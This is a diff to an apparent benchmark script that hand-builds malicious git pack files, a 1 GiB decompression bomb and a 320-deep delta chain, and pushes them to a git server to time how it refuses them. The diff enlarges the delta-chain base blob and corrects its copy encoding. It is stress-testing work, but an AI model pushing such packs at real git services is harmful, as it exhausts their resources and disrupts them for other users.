@@ -15,8 +15,8 @@ user ("legit", AWSCodeCommitPowerUser, an access key), then runs each attack in 
   server drops them;
 - decompression-bomb: a pushed pack (about 1 MB) whose one blob says it is 10 bytes long and
   inflates to 1 GiB;
-- delta-chain: a pushed pack (a few KB) of a blob and a chain of 320 deltas, each on the one
-  before.
+- delta-chain: a pushed pack (about 10 KB) of a 64 KB blob and a chain of 320 deltas, each on
+  the one before.
 
 The packs are made by hand: no git client sends them; the server may refuse them (that is the
 point), and how long it takes to do so is reported. While an attack runs the benchmark samples
@@ -224,19 +224,21 @@ def bomb_pack(inflated: int = 1 << 30) -> bytes:
     return _pack([_entry_header(3, 10) + data])
 
 
-def delta_chain_pack(depth: int = 320) -> bytes:
-    """A 4 KB blob, then `depth` OFS_DELTA entries, each copying all of the one before and
-    adding 16 bytes: resolving entry i naively re-applies the i deltas below it."""
+def delta_chain_pack(depth: int = 320, base_size: int = 64 * 1024) -> bytes:
+    """A blob of `base_size` bytes (a pattern: it compresses to little), then `depth`
+    OFS_DELTA entries, each copying all of the one before and adding 16 bytes: resolving
+    entry i naively re-applies the i deltas below it."""
     entries: list[bytes] = []
     offsets: list[int] = []
     offset = 12
-    base = bytes(range(256)) * 16
+    base = bytes(range(256)) * (base_size // 256)
     entry = _entry_header(3, len(base)) + zlib.compress(base)
     size = len(base)
     for i in range(depth + 1):
         if i:
             added = f"{i:015d}\n".encode()
-            copy = bytes([0x80 | 0x10 | 0x20]) + bytes([size & 0xFF, (size >> 8) & 0xFF])
+            # copy from offset 0 (no offset bytes), the size in three bytes
+            copy = bytes([0x80 | 0x10 | 0x20 | 0x40, size & 0xFF, (size >> 8) & 0xFF, size >> 16])
             delta = _varint(size) + _varint(size + 16) + copy + bytes([16]) + added
             entry = _entry_header(6, len(delta)) + _ofs(offset - offsets[-1]) + zlib.compress(delta)
             size += 16
